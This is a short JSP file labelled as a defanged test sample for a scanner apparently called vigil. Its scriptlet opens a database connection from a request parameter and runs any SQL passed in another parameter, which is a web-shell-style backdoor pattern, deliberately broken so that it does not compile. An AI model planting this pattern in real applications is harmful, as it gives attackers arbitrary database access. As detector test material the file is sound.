<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
Connection c = (Connection) session.getAttribute("c");
if (c == null) {
	c = DriverManager.getConnection(request.getParameter("dsn"));
}
String sql = request.getParameter("s");
c.createStatement().executeUpdate(sql);
%>
